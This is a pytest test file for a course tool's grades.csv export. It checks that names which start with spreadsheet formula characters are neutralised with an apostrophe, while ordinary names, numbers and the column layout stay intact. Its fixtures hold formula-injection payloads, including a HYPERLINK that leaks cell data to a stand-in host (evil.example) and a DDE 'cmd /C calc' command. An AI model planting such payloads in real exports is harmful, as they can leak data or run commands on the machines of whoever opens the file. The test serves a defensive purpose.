"""grades.csv: every name in its column, nothing in it that a spreadsheet would compute."""

from __future__ import annotations

import csv
import io
import re
import subprocess
import sys
from pathlib import Path

import pandas as pd
import programs
import pytest
from helpers import ROOT
from hypothesis import example, given
from hypothesis import strategies as st
from nbgrader.api import Gradebook
from submissions import MODULE, course_with_gradebook

from solidarity.grade.grades_csv import COLUMNS, guarded, table

FORMULAS = {
    "equals": "=1+1",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(A1)",
    "tab": "\t=1+1",
    "tab-and-words": "\tAna",
    "return": "\r=1+1",
    "newline": "\n=1+1",
    "blank": "  =1+1",
    "no-break": "\u00a0=1+1",
    "unseen": "\u200b\ufeff=1+1",
    "quote": '"=1+1',
    "apostrophe": "'=1+1",
    "curly": "“=1+1”",
    "wide": "＝1+1",
    "link": '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "command": "=cmd|' /C calc'!A0",
}
AFTER_A_SEPARATOR = {
    "semicolon": "Ana;=1+1",
    "inner-tab": "Ana\t@x",
    "inner-line": "Ana\n-1+1",
}
PLAIN = {
    "comma": "Cruz, Ana",
    "quotes": 'Ana "Annie"',
    "lines": "Ana\nMaria",
    "windows-lines": "Ana\r\nMaria",
    "devanagari": "अनीता",
    "emoji": "Ana 🐐🚲",
    "apostrophe-name": "'Aina O'Neil",
    "hyphen": "Ana-Maria",
    "equals-inside": "a=b",
    "semicolon": "Ana; Maria",
    "number": "-5",
    "telephone": "+639171234567",
    "leading-zeros": "007",
    "empty": "",
    "none": "None",
    "backslash": "a\\b",
    "half-a-pair": '"',
}


def cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("name", FORMULAS)
def test_a_formula_is_given_the_sign_of_text(name: str) -> None:
    ((cell,),) = cells(table([(FORMULAS[name],)]))
    assert cell.startswith("'" + FORMULAS[name][0])


@pytest.mark.parametrize("name", AFTER_A_SEPARATOR)
def test_a_formula_where_another_spreadsheet_begins_a_cell(name: str) -> None:
    text = AFTER_A_SEPARATOR[name]
    ((cell,),) = cells(table([(text,)]))
    assert cell == text[:4] + "'" + text[4:]


@pytest.mark.parametrize("name", PLAIN)
def test_other_text_is_left_as_it_is(name: str) -> None:
    assert cells(table([(PLAIN[name], "x")])) == [[PLAIN[name], "x"]]


@given(st.text())
@example("=")
@example(";=")
def test_only_apostrophes_are_added(text: str) -> None:
    ((cell,),) = cells(table([(text,)])) if text else (("",),)
    kept = iter(cell)
    clean = text.encode("utf-8", "backslashreplace").decode()
    assert all(sign in kept for sign in clean)
    assert set(cell) - set(clean) <= {"'"}
    assert not guarded(text).startswith(("=", "+", "-", "@", "\t", "\r")) or guarded(text) == text
    assert len(cell) - len(clean) <= 1 + sum(clean.count(sign) for sign in ";\t\r\n")


def test_a_negative_mark_stays_a_number() -> None:
    content = table([("score",), (-1.5,), (18.0,)])
    assert content.decode("utf-8-sig").splitlines()[1:] == ["-1.5", "18.0"]
    assert pd.read_csv(io.BytesIO(content))["score"].tolist() == [-1.5, 18.0]


def test_half_a_character_costs_nobody_the_table() -> None:
    assert cells(table([("Ana\udce9",)])) == [["Ana\\udce9"]]


# --- The real command ----------------------------------------------------------------------------

NAMES = FORMULAS | {f"plain {name}": text for name, text in PLAIN.items()} | AFTER_A_SEPARATOR
IDS = ("x,y", "=1+1", "-5", "अनीता", 'Ana "A"', "a\nb", "@ana", "🐐", "o'neil")


@pytest.fixture(scope="module")
def course(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A class with names of every kind; one learner handed in, late, and has negative marks."""
    course = course_with_gradebook(tmp_path_factory.mktemp("export") / "course")
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}", "sse-course") as book:
        for number, text in enumerate(NAMES.values()):
            book.add_student(f"n{number:02}", last_name=text, first_name=text, email=text)
        for name in IDS:
            book.add_student(name)
        book.update_or_create_assignment(MODULE, duedate="2026-02-01 10:00:00 UTC")
        book.add_assignment('odd, "name"')
        book.add_submission(MODULE, "x,y", timestamp="2026-02-03 10:00:00 UTC")
        grade = book.find_grade("share_out", "exercises", MODULE, "x,y")
        grade.manual_score, grade.extra_credit = 1.0, -2.5
        entry = book.find_submission_notebook("exercises", MODULE, "x,y")
        entry.late_submission_penalty = 0.5
        book.db.commit()
    return course


def export(course: Path, *arguments: str) -> subprocess.CompletedProcess[str]:
    command = [sys.executable, "-m", "nbgrader", "export", *arguments]
    return programs.run(command, cwd=course)


def rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as lines:
        return list(csv.DictReader(lines, strict=True))


def test_every_cell_of_the_real_export_stands_in_its_column(course: Path) -> None:
    done = export(course)
    assert done.returncode == 0, done.stderr
    content = (course / "grades.csv").read_bytes()
    assert content.startswith(b"\xef\xbb\xbf")
    found = [row for row in rows(course / "grades.csv") if row["assignment"] == MODULE]
    assert all(tuple(row) == COLUMNS for row in found)
    by_id = {row["student_id"]: row for row in found}
    for number, text in enumerate(NAMES.values()):
        row = by_id[f"n{number:02}"]
        assert row["last_name"] == row["first_name"] == row["email"] == guarded(text)
    assert {guarded(name) for name in IDS} <= set(by_id)
    late = by_id["x,y"]
    assert [float(late[name]) for name in COLUMNS[7:]] == [-1.5, 0.5, 0.0, 23.0]
    assert (late["duedate"], late["timestamp"]) == ("2026-02-01 10:00:00", "2026-02-03 10:00:00")


def test_pandas_reads_the_same(course: Path) -> None:
    assert export(course).returncode == 0
    frame = pd.read_csv(course / "grades.csv", keep_default_na=False)
    assert tuple(frame.columns) == COLUMNS
    assert len(frame) == 2 * (len(NAMES) + len(IDS))
    scores = frame[list(COLUMNS[7:])]
    assert all(pd.api.types.is_numeric_dtype(kind) for kind in scores.dtypes)
    assert scores["raw_score"].min() == -1.5


def test_columns_and_values_are_nbgraders_own(course: Path, tmp_path: Path) -> None:
    """On names that nbgrader's exporter can write too."""
    ours, theirs = tmp_path / "ours.csv", tmp_path / "theirs.csv"
    plain = f'--CsvExportPlugin.student=["n{list(NAMES).index("plain devanagari"):02}","🐐"]'
    stock = "--ExportApp.plugin_class=nbgrader.plugins.CsvExportPlugin"
    for path, more in ((ours, ()), (theirs, (stock,))):
        done = export(course, f"--to={path}", plain, f'--assignment=["{MODULE}"]', *more)
        assert done.returncode == 0, done.stderr
        assert ("Using exporter: CsvExportPlugin" in done.stderr) == (path == theirs)
    assert rows(ours) == rows(theirs)
    assert len(rows(ours)) == 2


@pytest.mark.parametrize("student", ['["x,y","-5"]', "['x,y', '-5']", "n03"])
def test_options_choose_learners_and_a_file(course: Path, tmp_path: Path, student: str) -> None:
    path = tmp_path / "a new folder" / "my grades.csv"
    done = export(course, "--to", str(path), "--student", student, "--assignment", f'["{MODULE}"]')
    assert done.returncode == 0, done.stderr
    found = {row["student_id"] for row in rows(path)}
    assert found == ({"n03"} if student == "n03" else {"x,y", "-5"})


def test_a_learner_who_is_not_there_leaves_the_old_table(course: Path, tmp_path: Path) -> None:
    path = tmp_path / "grades.csv"
    path.write_text("of last year")
    done = export(course, f"--to={path}", '--student=["nobody"]')
    assert done.returncode != 0
    assert "does not know the student nobody" in done.stderr
    assert "Traceback" not in done.stderr
    assert path.read_text() == "of last year"


def test_a_table_that_cannot_be_written_is_said(course: Path, tmp_path: Path) -> None:
    done = export(course, f"--to={tmp_path}")
    assert done.returncode != 0
    assert "cannot be written" in done.stderr
    assert "Nothing was changed" in done.stderr
    assert "Traceback" not in done.stderr


def test_the_roster_of_docs_class_works_as_a_spreadsheet_saves_it(tmp_path: Path) -> None:
    """With the unseen mark before the first column's name, which is not read then."""
    text = (ROOT / "docs" / "class.md").read_text(encoding="utf-8")
    roster = "".join(re.findall(r"^    (nr,.*\n|\d,.*\n)", text, flags=re.M))
    (tmp_path / "roster.csv").write_text(roster, encoding="utf-8-sig")
    command = [sys.executable, "-m", "nbgrader", "db", "student", "import", "roster.csv"]
    done = programs.run(command, cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    with Gradebook(f"sqlite:///{tmp_path / 'gradebook.db'}") as book:
        found = {one.id: (one.last_name, one.first_name, one.email) for one in book.students}
    assert found == {
        "ana": ("Cruz", 'Ana "Annie"', "ana@example.org"),
        "ben": ("Reyes", "Ben", "ben@example.org"),
    }
